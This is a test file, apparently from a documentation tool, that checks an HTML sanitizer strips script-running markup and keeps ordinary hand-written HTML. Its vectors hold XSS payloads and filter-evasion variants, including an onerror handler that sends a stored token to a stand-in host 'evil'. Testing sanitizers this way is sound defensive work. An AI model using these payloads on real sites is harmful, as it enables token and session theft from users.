import { describe, expect, it } from 'vitest';
import { sanitizeHtml } from '../../../cli/markdown/sanitize-html.ts';
import type { HtmlPolicy } from '../../../cli/core/render-env.ts';

const policy: HtmlPolicy = { rawHtml: 'sanitize', iframeHosts: ['www.youtube-nocookie.com'] };
const clean = (html: string) => sanitizeHtml(html, policy);

describe('sanitizeHtml', () => {
  it('takes out what runs script, saying what and where', () => {
    const vectors: [string, string, string][] = [
      [
        '<img src="data:image/png,x" onerror="new Image().src=\'https://evil/?t=\'+localStorage.getItem(\'token\')">',
        '<img src="data:image/png,x">',
        'the onerror attribute of <img>',
      ],
      ['<IMG SRC=x ONERROR=alert(1)>', '<img src="x">', 'the onerror attribute of <img>'],
      ['<span onclick="x">y</span>', '<span>y</span>', 'the onclick attribute of <span>'],
      ['<svg onload="alert(1)"></svg>', '', 'the <svg> element'],
      ['<a href="javascript:alert(1)">x</a>', '<a>x</a>', 'the href of <a>, a javascript: URL'],
      ['<a href="jav&#x61;script&colon;alert(1)">x</a>', '<a>x</a>', 'the href of <a>, a javascript: URL'],
      ['<a href=" vbscript:x">x</a>', '<a>x</a>', 'the href of <a>, a vbscript: URL'],
      ['<a href="data:text/html,<script>x</script>">x</a>', '<a>x</a>', 'the href of <a>, a data: URL'],
      ['<script>alert(1)</script>ok', 'ok', 'the <script> element and its content'],
      [
        '<div style="background:url(javascript:alert(1))">a</div>',
        '<div>a</div>',
        'the style attribute of <div>, which loads a URL or runs code',
      ],
      [
        '<iframe src="https://evil.example/x"></iframe>',
        '<iframe></iframe>',
        'an <iframe> from https://evil.example/x, a host not in markdown.iframeHosts',
      ],
      ['<object data="x.swf"></object>', '', 'the <object> element'],
    ];
    for (const [html, expected, what] of vectors)
      expect(clean(html), html).toEqual({ html: expected, removed: [{ offset: 0, what }] });
  });

  it('keeps what documentation writes by hand', () => {
    for (const html of [
      '<details><summary>Ver mais</summary>texto</details>',
      '<kbd>Ctrl</kbd> + <kbd>C</kbd>, H<sub>2</sub>O, x<sup>2</sup><br>',
      '<table><thead><tr><th colspan="2">a</th></tr></thead><tbody><tr><td>b</td></tr></tbody></table>',
      '<img src="/img/a.png" alt="a" width="10" height="20">',
      '<img src="data:image/svg+xml,%3Csvg%3E" alt="">',
      '<a href="https://exemplo.com.br">a</a> <a href="mailto:x@y.z">b</a> <a href="../x#y" target="_blank" rel="noopener">c</a>',
      '<div class="nota" id="topo" style="color: red" aria-label="x" data-x="1">a</div>',
      '<iframe src="https://www.youtube-nocookie.com/embed/x" width="560" height="315" allowfullscreen=""></iframe>',
      '<!-- truncate -->',
    ]) {
      expect(clean(html), html).toEqual({ html, removed: [] });
    }
  });

  it('leaves comments as they are, whatever they hold', () => {
    for (const html of [
      '<!-- <a href="/docs/antiga">x</a> -->',
      'a <!-- <script>x</script> --> b',
      '<!-- nunca fechado <img onerror=x>',
    ])
      expect(clean(html), html).toEqual({ html, removed: [] });
    expect(clean('<!-- x --><img src=a onerror=b>').removed).toEqual([
      { offset: 10, what: 'the onerror attribute of <img>' },
    ]);
  });

  it('leaves a "<" that starts no element as text', () => {
    expect(clean('a < b')).toEqual({ html: 'a &lt; b', removed: [] });
    expect(clean('<div>\nif a > b\n</div>').html).toBe('<div>\nif a &gt; b\n</div>');
  });

  it('reads a tag as a browser would: one that another "<" interrupts is text, not a way past the filter', () => {
    expect(clean('<img src=x onerror=alert(1) <b>x</b>').html).toBe('&lt;img src=x onerror=alert(1) <b>x</b>');
    expect(clean('<a href="x" <img src=y onerror=z>').html).toBe('&lt;a href="x" <img src="y">');
    expect(clean('<img/src=x/onerror=alert(1)>').html).toBe('');
    expect(clean('<img src=x onerror\n=alert(1)>').html).toBe('<img src="x">');
  });

  it('gives the offset of each removal in the HTML it was given', () => {
    expect(clean('<p>ok</p>\n<img src=x onerror=y>\n<b onmouseover=z>b</b>').removed).toEqual([
      { offset: 10, what: 'the onerror attribute of <img>' },
      { offset: 32, what: 'the onmouseover attribute of <b>' },
    ]);
  });

  it('passes everything through when the site trusts its raw HTML', () => {
    const html = '<img src=x onerror="alert(1)"><script>x()</script>';
    expect(sanitizeHtml(html, { ...policy, rawHtml: 'trusted' })).toEqual({ html, removed: [] });
  });
});
